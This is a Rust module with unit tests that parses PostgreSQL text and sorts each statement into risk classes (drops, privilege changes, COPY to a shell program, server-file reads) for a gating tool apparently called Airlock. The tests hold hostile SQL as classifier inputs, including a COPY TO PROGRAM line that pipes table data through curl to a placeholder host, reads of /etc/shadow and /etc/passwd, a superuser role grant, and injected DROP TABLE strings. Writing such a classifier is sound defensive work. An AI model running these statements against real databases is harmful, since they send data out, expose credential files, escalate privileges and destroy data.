//! What a SQL string does, by its worst effect.
//!
//! The text is parsed with sqlparser's PostgreSQL dialect and every
//! statement in it is walked, nested ones included: a CTE with a DELETE is a
//! delete, `EXPLAIN ANALYZE` runs what it explains, a `COPY (query)` runs
//! its query. Text that does not parse is [`StatementClass::Unparsed`], the
//! class policies treat as the riskiest unless they say otherwise: Airlock
//! cannot vouch for what it cannot read.

use std::{
    collections::{BTreeSet, HashMap},
    ops::ControlFlow,
    sync::{Arc, Mutex},
};

use serde::Serialize;
use sqlparser::{
    ast::{
        CopyTarget, Expr, FromTable, ObjectName, ObjectNamePart, ObjectType, Set, SetExpr, Statement, Visit, Visitor,
    },
    dialect::PostgreSqlDialect,
    parser::{Parser, ParserError},
    tokenizer::{Token, Tokenizer},
};

use super::lex;

/// What a statement may do. Policies name these in `classes`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum StatementClass {
    /// Reads data: SELECT, SHOW, COPY … TO STDOUT.
    Read,
    /// Session and transaction control: SET, BEGIN, COMMIT, PREPARE, LISTEN….
    Session,
    /// Changes rows with a WHERE clause (or inserts them): INSERT, UPDATE, DELETE, MERGE, COPY FROM STDIN.
    Write,
    /// UPDATE without WHERE: every row of the table.
    UpdateWithoutWhere,
    /// DELETE without WHERE: every row of the table.
    DeleteWithoutWhere,
    /// Changes the schema: CREATE, ALTER, COMMENT, VACUUM and statements Airlock has no finer class for.
    Ddl,
    /// DROP of any object.
    Drop,
    /// TRUNCATE.
    Truncate,
    /// Changes who may do what: GRANT, REVOKE, CREATE/ALTER/DROP ROLE, SET ROLE, SET SESSION AUTHORIZATION.
    Privilege,
    /// COPY … TO/FROM PROGRAM: runs a shell command on the database server.
    CopyProgram,
    /// COPY … TO/FROM a file on the database server.
    CopyFile,
    /// Runs procedural code whose effect cannot be seen from here: DO blocks, CALL.
    Procedural,
    /// Calls a server function known to act outside the query: terminating
    /// backends, reading or writing server files, running SQL from text.
    RiskyFunction,
    /// More than one statement in one string.
    MultiStatement,
    /// Did not parse; treated as the riskiest class unless policy says otherwise.
    Unparsed,
}

impl StatementClass {
    /// Every class, in order of the enum.
    pub const ALL: [Self; 15] = [
        Self::Read,
        Self::Session,
        Self::Write,
        Self::UpdateWithoutWhere,
        Self::DeleteWithoutWhere,
        Self::Ddl,
        Self::Drop,
        Self::Truncate,
        Self::Privilege,
        Self::CopyProgram,
        Self::CopyFile,
        Self::Procedural,
        Self::RiskyFunction,
        Self::MultiStatement,
        Self::Unparsed,
    ];

    /// The name policies use.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Read => "read",
            Self::Session => "session",
            Self::Write => "write",
            Self::UpdateWithoutWhere => "update_without_where",
            Self::DeleteWithoutWhere => "delete_without_where",
            Self::Ddl => "ddl",
            Self::Drop => "drop",
            Self::Truncate => "truncate",
            Self::Privilege => "privilege",
            Self::CopyProgram => "copy_program",
            Self::CopyFile => "copy_file",
            Self::Procedural => "procedural",
            Self::RiskyFunction => "risky_function",
            Self::MultiStatement => "multi_statement",
            Self::Unparsed => "unparsed",
        }
    }

    /// The class a policy names, if it is one.
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|class| class.as_str() == name)
    }
}

/// Server functions that act beyond the query that calls them.
const RISKY_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "dblink",
    "dblink_exec",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "set_config",
];

/// What one SQL string does.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Classification {
    /// Every class any statement in the string falls in.
    pub classes: BTreeSet<StatementClass>,
    /// Tables and other relations named, lowercased unless quoted, as
    /// written (`schema.table` or `table`).
    pub tables: BTreeSet<String>,
    /// Functions called, lowercased unless quoted, as written.
    pub functions: BTreeSet<String>,
    /// Top-level statements in the string.
    pub statements: usize,
    /// Why the text did not parse, when it did not.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub parse_error: Option<String>,
}

impl Classification {
    /// Classifies `sql`. Never fails: what does not parse is
    /// [`StatementClass::Unparsed`].
    pub fn of(sql: &str) -> Self {
        let mut result = Self::default();
        match parse_all(sql) {
            Ok(statements) => {
                result.statements = statements.len();
                if statements.len() > 1 {
                    result.classes.insert(StatementClass::MultiStatement);
                }
                let mut walker = Walker { result: &mut result };
                let _ = statements.visit(&mut walker);
            }
            Err(error) => {
                result.classes.insert(StatementClass::Unparsed);
                result.parse_error = Some(error.to_string());
                result.statements = leading_keywords(sql, &mut result.classes);
                if result.statements > 1 {
                    result.classes.insert(StatementClass::MultiStatement);
                }
            }
        }
        result
    }

    /// Whether the string does nothing at all (empty or only comments).
    pub fn is_empty(&self) -> bool {
        self.statements == 0 && self.parse_error.is_none()
    }
}

/// Every statement in `sql`, or why not. sqlparser stops, without an
/// error, at a keyword that ends a block in other dialects (`SELECT 1 END;
/// DROP TABLE t` reads as `SELECT 1`): text left unread is an error here,
/// or what follows it would go unseen.
fn parse_all(sql: &str) -> Result<Vec<Statement>, ParserError> {
    if let Some(tokens) = lex::plain_tokens(sql)
        && let Ok(statements) = parse_statements(Parser::new(&PostgreSqlDialect {}).with_tokens_with_locations(tokens))
    {
        return Ok(statements);
    }
    // Read by sqlparser's tokenizer, whose tokens know where they are: an
    // error then says where it is.
    parse_statements(Parser::new(&PostgreSqlDialect {}).try_with_sql(sql)?)
}

fn parse_statements(mut parser: Parser<'_>) -> Result<Vec<Statement>, ParserError> {
    let statements = parser.parse_statements()?;
    match parser.peek_token().token {
        Token::EOF => Ok(statements),
        unread => Err(ParserError::ParserError(format!("the text goes on after the statements, from {unread}"))),
    }
}

/// For text sqlparser cannot read: counts the statements (split on `;`
/// outside quotes, dollar quotes and comments, which the tokenizer knows)
/// and adds what their first keywords reveal, so a `DO` block is also
/// recorded as procedural. The classes only ever add to `Unparsed`.
fn leading_keywords(sql: &str, classes: &mut BTreeSet<StatementClass>) -> usize {
    let Ok(tokens) = Tokenizer::new(&PostgreSqlDialect {}, sql).tokenize() else { return 1 };
    let mut statements = 0;
    let mut at_start = true;
    for token in tokens {
        match token {
            Token::SemiColon => at_start = true,
            Token::Whitespace(_) => {}
            Token::Word(word) if at_start => {
                statements += 1;
                at_start = false;
                match word.value.to_ascii_lowercase().as_str() {
                    "do" | "call" => classes.insert(StatementClass::Procedural),
                    "drop" => classes.insert(StatementClass::Drop),
                    "truncate" => classes.insert(StatementClass::Truncate),
                    "grant" | "revoke" => classes.insert(StatementClass::Privilege),
                    _ => false,
                };
            }
            _ if at_start => {
                statements += 1;
                at_start = false;
            }
            _ => {}
        }
    }
    statements.max(1)
}

struct Walker<'a> {
    result: &'a mut Classification,
}

impl Walker<'_> {
    fn class(&mut self, class: StatementClass) {
        self.result.classes.insert(class);
    }

    fn table(&mut self, name: &ObjectName) {
        self.result.tables.insert(object_name(name));
    }
}

impl Visitor for Walker<'_> {
    type Break = ();

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        use StatementClass as C;
        let class = match statement {
            Statement::Query(query) => {
                if let SetExpr::Select(select) = query.body.as_ref()
                    && select.into.is_some()
                {
                    C::Ddl
                } else {
                    C::Read
                }
            }
            Statement::Insert(_) | Statement::Merge(_) => C::Write,
            Statement::Update(update) if update.selection.is_none() => C::UpdateWithoutWhere,
            Statement::Update(_) => C::Write,
            Statement::Delete(delete) => {
                let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) = &delete.from;
                for table in from {
                    if let sqlparser::ast::TableFactor::Table { name, .. } = &table.relation {
                        self.table(name);
                    }
                }
                if delete.selection.is_none() { C::DeleteWithoutWhere } else { C::Write }
            }
            Statement::Copy { target, to, .. } => match target {
                CopyTarget::Program { .. } => C::CopyProgram,
                CopyTarget::File { .. } => C::CopyFile,
                CopyTarget::Stdin | CopyTarget::Stdout if *to => C::Read,
                CopyTarget::Stdin | CopyTarget::Stdout => C::Write,
            },
            Statement::Truncate(_) => C::Truncate,
            Statement::Drop { object_type, names, .. } => {
                if matches!(object_type, ObjectType::Role | ObjectType::User) {
                    self.class(C::Privilege);
                }
                for name in names {
                    self.table(name);
                }
                C::Drop
            }
            Statement::DropFunction(_)
            | Statement::DropProcedure { .. }
            | Statement::DropTrigger(_)
            | Statement::DropPolicy(_)
            | Statement::DropDomain(_)
            | Statement::DropExtension(_)
            | Statement::DropOperator(_)
            | Statement::DropOperatorFamily(_)
            | Statement::DropOperatorClass(_)
            | Statement::DropSecret { .. }
            | Statement::DropConnector { .. } => C::Drop,
            Statement::Grant(_)
            | Statement::Revoke(_)
            | Statement::CreateRole(_)
            | Statement::AlterRole { .. }
            | Statement::CreateUser(_)
            | Statement::AlterUser(_) => C::Privilege,
            Statement::Set(Set::SetRole { .. } | Set::SetSessionAuthorization(_)) => C::Privilege,
            Statement::Call(_) => C::Procedural,
            Statement::Set(_)
            | Statement::Reset(_)
            | Statement::StartTransaction { .. }
            | Statement::Commit { .. }
            | Statement::Rollback { .. }
            | Statement::Savepoint { .. }
            | Statement::ReleaseSavepoint { .. }
            | Statement::ShowVariable { .. }
            | Statement::ShowVariables { .. }
            | Statement::Discard { .. }
            | Statement::LISTEN { .. }
            | Statement::UNLISTEN { .. }
            | Statement::NOTIFY { .. }
            | Statement::Prepare { .. }
            | Statement::Execute { .. }
            | Statement::Deallocate { .. }
            | Statement::Declare { .. }
            | Statement::Fetch { .. }
            | Statement::Close { .. }
            | Statement::Explain { .. }
            | Statement::ExplainTable { .. } => C::Session,
            // CREATE, ALTER, COMMENT, VACUUM, LOCK and whatever else sqlparser
            // knows: changes to the schema or the server, unless shown otherwise.
            _ => C::Ddl,
        };
        self.class(class);
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        self.table(relation);
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(function) = expr {
            let name = object_name(&function.name);
            let unqualified = name.rsplit('.').next().unwrap_or(&name);
            if RISKY_FUNCTIONS.contains(&unqualified) {
                self.class(StatementClass::RiskyFunction);
            }
            self.result.functions.insert(name);
        }
        ControlFlow::Continue(())
    }
}

/// `schema.table` as PostgreSQL resolves the spelling: unquoted parts fold
/// to lowercase, quoted ones keep their case. PostgreSQL folds only ASCII
/// letters in unquoted names (`ÄBC` is the relation `Äbc`), and so does this.
fn object_name(name: &ObjectName) -> String {
    let mut out = String::new();
    for (i, part) in name.0.iter().enumerate() {
        if i > 0 {
            out.push('.');
        }
        let (text, folded) = match part {
            ObjectNamePart::Identifier(ident) => (&ident.value, ident.quote_style.is_none()),
            ObjectNamePart::Function(function) => (&function.name.value, function.name.quote_style.is_none()),
        };
        let start = out.len();
        out.push_str(text);
        if folded {
            out[start..].make_ascii_lowercase();
        }
    }
    out
}

/// Longest statement text classified; longer text is [`StatementClass::Unparsed`]
/// without trying (parsing is linear, but a megabyte of SQL is not a query a
/// person typed).
pub const MAX_CLASSIFIED_LEN: usize = 1 << 20;
/// Distinct statement texts remembered.
const CACHE_ENTRIES: usize = 4096;

/// Classifies with a cache: applications send the same statements over and
/// over, and the same statements with other literals (`WHERE id = 42`, then
/// `WHERE id = 43`), which classify alike: a literal's value never changes
/// what a statement does, only its structure does.
#[derive(Default)]
pub struct Classifier {
    cache: Mutex<Cache>,
}

#[derive(Default)]
struct Cache {
    /// By exact text.
    texts: HashMap<Box<str>, Arc<Classification>>,
    /// By [`shape`], for texts that parsed.
    shapes: HashMap<Box<str>, Arc<Classification>>,
}

impl Cache {
    fn remember(map: &mut HashMap<Box<str>, Arc<Classification>>, key: &str, classification: &Arc<Classification>) {
        if map.len() >= CACHE_ENTRIES {
            // Statements that vary by structure would fill any cache;
            // starting over keeps memory bounded and the hot statements come back.
            map.clear();
        }
        map.insert(key.into(), Arc::clone(classification));
    }
}

impl Classifier {
    /// The classification of `sql`, from the cache when it, or a statement
    /// of its shape, was seen before.
    pub fn classify(&self, sql: &str) -> Arc<Classification> {
        if sql.len() > MAX_CLASSIFIED_LEN {
            return Arc::new(too_large(sql.len()));
        }
        if let Some(hit) = self.cache.lock().unwrap_or_else(|p| p.into_inner()).texts.get(sql) {
            return Arc::clone(hit);
        }
        let shape = shape(sql);
        if let Some(shape) = &shape
            && let Some(hit) = self.cache.lock().unwrap_or_else(|p| p.into_inner()).shapes.get(shape.as_str())
        {
            return Arc::clone(hit);
        }
        let classification = Arc::new(Classification::of(sql));
        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
        Cache::remember(&mut cache.texts, sql, &classification);
        // A parse error names positions and tokens of its own text: only
        // what parsed stands for other texts of its shape.
        if let Some(shape) = shape
            && classification.parse_error.is_none()
        {
            Cache::remember(&mut cache.shapes, &shape, &classification);
        }
        classification
    }
}

/// `sql` with each literal blanked: strings to `''`, each run of digits in
/// a number to `0` (points kept). Two texts of one shape differ only in
/// what their literals hold, so they classify alike.
///
/// `None` (only the exact text is then cached) for text whose reading a
/// blanked literal could change, or that this scan might read otherwise
/// than PostgreSQL: backslashes (escapes under
/// `standard_conforming_strings = off`), prefixed strings (`E''`, `U&''`,
/// `B''`, `X''`), dollar quotes and parameters, comments, numbers with
/// exponents or too many digits to be an integer, unterminated quotes; and
/// for text without literals, whose shape is the text itself.
fn shape(sql: &str) -> Option<String> {
    /// Bytes that continue a word: a literal right after one is not a literal.
    fn wordy(byte: u8) -> bool {
        byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'$' || byte == b'&' || !byte.is_ascii()
    }
    let bytes = sql.as_bytes();
    let mut out = String::with_capacity(sql.len());
    let mut literals = 0;
    let mut i = 0;
    while let Some(&byte) = bytes.get(i) {
        let after_word = i > 0 && wordy(bytes[i - 1]);
        match byte {
            b'\\' | b'$' => return None,
            b'-' if bytes.get(i + 1) == Some(&b'-') => return None,
            b'/' if bytes.get(i + 1) == Some(&b'*') => return None,
            b'\'' if after_word => return None,
            b'\'' => {
                let mut end = i + 1;
                loop {
                    match *bytes.get(end)? {
                        b'\\' => return None,
                        b'\'' if bytes.get(end + 1) == Some(&b'\'') => end += 2,
                        b'\'' => break,
                        _ => end += 1,
                    }
                }
                out.push_str("''");
                literals += 1;
                i = end + 1;
            }
            b'"' => {
                // A quoted identifier is structure: kept as written.
                let mut end = i + 1;
                loop {
                    match *bytes.get(end)? {
                        b'"' if bytes.get(end + 1) == Some(&b'"') => end += 2,
                        b'"' => break,
                        _ => end += 1,
                    }
                }
                out.push_str(&sql[i..=end]);
                i = end + 1;
            }
            b'0'..=b'9' if !after_word => {
                let mut end = i;
                while let Some(&b) = bytes.get(end) {
                    match b {
                        b'0'..=b'9' => {
                            let run = bytes[end..].iter().take_while(|b| b.is_ascii_digit()).count();
                            if run > 18 {
                                return None;
                            }
                            out.push('0');
                            end += run;
                        }
                        b'.' => {
                            out.push('.');
                            end += 1;
                        }
                        _ if wordy(b) => return None,
                        _ => break,
                    }
                }
                literals += 1;
                i = end;
            }
            _ => {
                // On to the next byte that may start a literal, a quote or a
                // comment: all ASCII, so a character boundary.
                let next = bytes[i + 1..]
                    .iter()
                    .position(|b| matches!(b, b'\\' | b'$' | b'-' | b'/' | b'\'' | b'"' | b'0'..=b'9'))
                    .map_or(bytes.len(), |n| i + 1 + n);
                out.push_str(&sql[i..next]);
                i = next;
            }
        }
    }
    (literals > 0).then_some(out)
}

/// The classification of a statement too large to inspect.
pub fn too_large(len: usize) -> Classification {
    Classification {
        classes: BTreeSet::from([StatementClass::Unparsed]),
        statements: 1,
        parse_error: Some(format!("{len}-byte statement is too large to inspect")),
        ..Classification::default()
    }
}

#[cfg(test)]
mod tests {
    use super::{StatementClass as C, *};

    fn classes(sql: &str) -> Vec<C> {
        Classification::of(sql).classes.into_iter().collect()
    }

    #[test]
    fn reads_and_writes() {
        assert_eq!(classes("SELECT * FROM customers WHERE id = 1"), [C::Read]);
        assert_eq!(classes("select 1; -- trailing comment"), [C::Read]);
        assert_eq!(classes("INSERT INTO t VALUES (1)"), [C::Write]);
        assert_eq!(classes("UPDATE t SET a = 1 WHERE id = 2"), [C::Write]);
        assert_eq!(classes("DELETE FROM t WHERE id = 2"), [C::Write]);
        assert_eq!(classes("COPY t TO STDOUT"), [C::Read]);
        assert_eq!(classes("COPY t FROM STDIN"), [C::Write]);
        assert_eq!(classes("SELECT * INTO newtab FROM t"), [C::Ddl]);
    }

    #[test]
    fn whole_table_changes() {
        assert_eq!(classes("DELETE FROM t"), [C::DeleteWithoutWhere]);
        assert_eq!(classes("delete   from public.t  "), [C::DeleteWithoutWhere]);
        assert_eq!(classes("UPDATE t SET a = 1"), [C::UpdateWithoutWhere]);
        assert_eq!(classes("DELETE FROM t USING u"), [C::DeleteWithoutWhere]);
    }

    #[test]
    fn a_cte_is_as_bad_as_its_worst_part() {
        let c = Classification::of("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone");
        assert!(c.classes.contains(&C::DeleteWithoutWhere), "{c:?}");
        assert!(c.tables.contains("orders"), "{c:?}");
    }

    #[test]
    fn dangerous_statements() {
        assert_eq!(classes("DROP TABLE customers"), [C::Drop]);
        assert_eq!(classes("drop table if exists \"Customers\" cascade"), [C::Drop]);
        assert_eq!(classes("TRUNCATE orders"), [C::Truncate]);
        assert_eq!(classes("GRANT SELECT ON t TO bob"), [C::Privilege]);
        assert_eq!(classes("REVOKE ALL ON t FROM bob"), [C::Privilege]);
        assert_eq!(classes("CREATE ROLE evil SUPERUSER"), [C::Privilege]);
        assert_eq!(classes("ALTER ROLE bob WITH SUPERUSER"), [C::Privilege]);
        assert_eq!(classes("DROP ROLE bob"), [C::Drop, C::Privilege]);
        assert_eq!(classes("SET ROLE admin"), [C::Privilege]);
        assert_eq!(classes("COPY t TO PROGRAM 'curl -d @- evil'"), [C::CopyProgram]);
        assert_eq!(classes("COPY t FROM '/etc/passwd'"), [C::CopyFile]);
        assert_eq!(classes("CALL purge_all()"), [C::Procedural]);
        assert_eq!(classes("ALTER TABLE t ADD COLUMN x int"), [C::Ddl]);
        assert_eq!(classes("CREATE INDEX i ON t (a)"), [C::Ddl]);
        assert_eq!(classes("SELECT pg_terminate_backend(123)"), [C::Read, C::RiskyFunction]);
        assert_eq!(classes("select pg_catalog.pg_read_file('/etc/shadow')"), [C::Read, C::RiskyFunction]);
    }

    #[test]
    fn session_statements() {
        for sql in ["BEGIN", "COMMIT", "ROLLBACK", "SET search_path = app", "SHOW work_mem", "LISTEN jobs"] {
            assert_eq!(classes(sql), [C::Session], "{sql}");
        }
    }

    #[test]
    fn explain_analyze_counts_what_it_runs() {
        assert!(classes("EXPLAIN ANALYZE DELETE FROM t").contains(&C::DeleteWithoutWhere));
    }

    #[test]
    fn multi_statement_strings() {
        assert_eq!(classes("SELECT 1; DROP TABLE t"), [C::Read, C::Drop, C::MultiStatement]);
        assert_eq!(classes("BEGIN; DELETE FROM t; COMMIT"), [C::Session, C::DeleteWithoutWhere, C::MultiStatement]);
    }

    #[test]
    fn comments_casing_and_dollar_quotes_do_not_hide_anything() {
        assert_eq!(classes("/* harmless */ DrOp /* really */ TaBlE t"), [C::Drop]);
        assert_eq!(classes("SELECT 'DROP TABLE t'"), [C::Read]);
        assert_eq!(classes("SELECT $$ DELETE FROM t $$"), [C::Read]);
        assert_eq!(classes("SELECT $tag$ ; DROP TABLE t; $tag$"), [C::Read]);
    }

    #[test]
    fn do_blocks_do_not_parse_and_are_procedural() {
        let c = Classification::of("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
        assert!(c.classes.contains(&C::Unparsed) && c.classes.contains(&C::Procedural), "{c:?}");
        assert!(c.parse_error.is_some());
    }

    #[test]
    fn gibberish_is_unparsed_and_fails_closed() {
        let c = Classification::of("SELEKT * FRM t");
        assert_eq!(c.classes.iter().copied().collect::<Vec<_>>(), [C::Unparsed]);
        let c = Classification::of("SELECT 1; BLAH BLAH; DROP TABLE t");
        assert!(c.classes.contains(&C::MultiStatement) && c.classes.contains(&C::Drop), "{c:?}");
    }

    #[test]
    fn tables_are_named_as_postgres_resolves_them() {
        let c = Classification::of(r#"SELECT * FROM Public.Customers c JOIN "Orders" o ON o.c = c.id"#);
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["Orders", "public.customers"]);
        let c = Classification::of("DROP TABLE a, b.c");
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["a", "b.c"]);
        // PostgreSQL folds only ASCII letters of unquoted names.
        let c = Classification::of(r#"DROP TABLE ÄBC, "ÄBC", ÉcOLE.Ü"#);
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["ÄBC", "Äbc", "École.Ü"]);
        let c = Classification::of(r#"SELECT Pg_Terminate_Backend(1), "Lower"(x) FROM t"#);
        assert_eq!(c.functions.iter().map(String::as_str).collect::<Vec<_>>(), ["Lower", "pg_terminate_backend"]);
        assert!(c.classes.contains(&StatementClass::RiskyFunction));
    }

    #[test]
    fn empty_strings_do_nothing() {
        assert!(Classification::of("").is_empty());
        assert!(Classification::of("  -- just a comment\n").is_empty());
        assert!(!Classification::of("x").is_empty());
    }

    #[test]
    fn text_after_a_block_end_is_not_skipped() {
        let c = Classification::of("SELECT 1 END; DROP TABLE t");
        assert!(c.classes.contains(&C::Unparsed) && c.classes.contains(&C::Drop), "{c:?}");
        assert_eq!(classes("BEGIN; SELECT 1; END; DROP TABLE t"), [C::Read, C::Session, C::Drop, C::MultiStatement]);
        assert_eq!(classes("SELECT CASE WHEN true THEN 1 END"), [C::Read]);
    }

    #[test]
    fn a_nul_byte_hides_nothing() {
        for sql in ["SELECT f(\0)\n;DROP TABLE t", "SELECT 1\0;DROP TABLE t"] {
            let c = Classification::of(sql);
            assert!(c.classes.contains(&C::Unparsed) && c.classes.contains(&C::Drop), "{sql:?}: {c:?}");
        }
    }

    #[test]
    fn literals_are_blanked_in_shapes() {
        let same = [
            ("SELECT abalance FROM a WHERE aid = 42;", "SELECT abalance FROM a WHERE aid = 7;"),
            ("SELECT * FROM t WHERE name = 'o''brien' AND x > 1.5", "SELECT * FROM t WHERE name = '' AND x > 22.75"),
            ("SELECT \"it's\" FROM t WHERE a = 'x'", "SELECT \"it's\" FROM t WHERE a = 'yy'"),
            ("INSERT INTO t VALUES ('é', 1)", "INSERT INTO t VALUES ('ü', 2)"),
        ];
        for (a, b) in same {
            assert_eq!(shape(a), shape(b), "{a} / {b}");
            assert!(shape(a).is_some(), "{a}");
        }
        let different = [
            ("SELECT 1", "SELECT 1.5"),
            ("SELECT \"a'b\" FROM t WHERE x = 1", "SELECT \"a'c\" FROM t WHERE x = 1"),
            ("SELECT * FROM t1 WHERE a = 1", "SELECT * FROM t2 WHERE a = 1"),
            ("SELECT 'a'", "SELECT 'a'; DROP TABLE t"),
        ];
        for (a, b) in different {
            assert_ne!(shape(a), shape(b), "{a} / {b}");
        }
        for unsure in [
            "SELECT 'a\\'; DROP TABLE x; --'",
            "SELECT E'a\\'' ",
            "SELECT U&'d\\0061t' ",
            "SELECT X'ff'",
            "SELECT $$a$$",
            "SELECT $1",
            "SELECT 1 -- 2",
            "SELECT /* 'x' */ 1",
            "SELECT 1e5",
            "SELECT 12345678901234567890",
            "SELECT 'unterminated",
            "SELECT \"unterminated",
            "SELECT a FROM t",
        ] {
            assert_eq!(shape(unsure), None, "{unsure}");
        }
        assert_eq!(
            shape("SELECT x1, 2 FROM t_3 WHERE y = 4.25").as_deref(),
            Some("SELECT x1, 0 FROM t_3 WHERE y = 0.0")
        );
    }

    #[test]
    fn statements_of_one_shape_share_a_classification() {
        let classifier = Classifier::default();
        let first = classifier.classify("DELETE FROM t WHERE id = 1");
        let second = classifier.classify("DELETE FROM t WHERE id = 2");
        assert!(Arc::ptr_eq(&first, &second));
        assert_eq!(classifier.classify("DELETE FROM t WHERE id = 2 OR 1 = 1").classes, first.classes);
        // What did not parse is parsed again: its error is its own.
        let bad = classifier.classify("SELEC 'a'");
        let again = classifier.classify("SELEC 'b'");
        assert!(!Arc::ptr_eq(&bad, &again));
        assert!(again.classes.contains(&C::Unparsed));
    }

    #[test]
    fn the_cache_returns_the_same_answer() {
        let classifier = Classifier::default();
        let first = classifier.classify("DELETE FROM t");
        let second = classifier.classify("DELETE FROM t");
        assert!(Arc::ptr_eq(&first, &second));
        assert!(classifier.classify(&"x".repeat(MAX_CLASSIFIED_LEN + 1)).classes.contains(&C::Unparsed));
    }

    #[test]
    fn psql_describe_queries_parse() {
        // What `psql -E` shows for \\d t and \\dt: Airlock must read them, or
        // every describe command would count as unparsed.
        let describe = "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;";
        let list = "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam\nWHERE c.relkind IN ('r','p','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;";
        let columns = "SELECT a.attname,\n  pg_catalog.format_type(a.atttypid, a.atttypmod),\n  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)\n   FROM pg_catalog.pg_attrdef d\n   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),\n  a.attnotnull,\n  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t\n   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation\nFROM pg_catalog.pg_attribute a\nWHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped\nORDER BY a.attnum;";
        for sql in [describe, list, columns] {
            let c = Classification::of(sql);
            assert_eq!(c.classes.iter().copied().collect::<Vec<_>>(), [C::Read], "{sql}: {c:?}");
        }
    }

    #[test]
    fn class_names_round_trip() {
        for class in StatementClass::ALL {
            assert_eq!(StatementClass::from_name(class.as_str()), Some(class));
        }
        assert_eq!(StatementClass::from_name("nope"), None);
    }
}
